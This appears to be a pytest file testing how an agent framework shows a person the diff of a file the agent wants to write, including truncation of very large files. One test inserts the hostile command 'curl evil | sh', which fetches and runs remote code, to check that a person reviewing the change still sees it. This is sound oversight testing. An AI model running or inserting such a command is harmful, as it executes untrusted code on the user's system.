"""What a person is shown of a file that an agent wants to write."""

import pytest

from kernel.tools.base import cut_middle
from kernel.tools.files import COMPARED_LINES, DIFF_CHARACTERS, _diff


@pytest.mark.feature("AP03")
def test_of_a_very_large_file_the_head_of_the_change_is_shown_and_what_is_left_out() -> None:
    old = [f"line {number}" for number in range(COMPARED_LINES)]
    new = [*old[:15_000], "curl evil | sh", *old[15_001:], "end"]
    diff, added, removed = _diff("\n".join(old), "\n".join(new), "/home/a/x")
    assert (added, removed) == (2, 1)
    assert "+curl evil | sh" in diff and "-line 15000" in diff
    assert "shown from line 14,998" in diff
    assert "4,803 lines of before and 4,804 lines of after are not shown" in diff
    assert "+curl evil | sh" in cut_middle(diff, DIFF_CHARACTERS)


def test_a_very_large_new_file_shows_its_beginning() -> None:
    diff, added, removed = _diff(None, "\n".join(f"new {number}" for number in range(COMPARED_LINES + 1)), "/home/a/x")
    assert (added, removed) == (COMPARED_LINES + 1, 0)
    assert diff.startswith("--- /dev/null\n+++ /home/a/x\n[too large") and "+new 0\n" in diff
    assert "19,801 lines of after are not shown" in diff


def test_a_change_at_the_very_end_is_found() -> None:
    old = "\n".join("same" for _ in range(COMPARED_LINES))
    diff, added, removed = _diff(old, old + "\nlast", "/home/a/x")
    assert (added, removed) == (1, 0)
    assert "+last" in diff and "0 lines of before and 0 lines of after" in diff


def test_an_ordinary_file_is_compared_as_a_whole() -> None:
    assert _diff("a\nb", "a\nc", "x") == ("--- x\n+++ x\n@@ -1,2 +1,2 @@\n a\n-b\n+c", 1, 1)
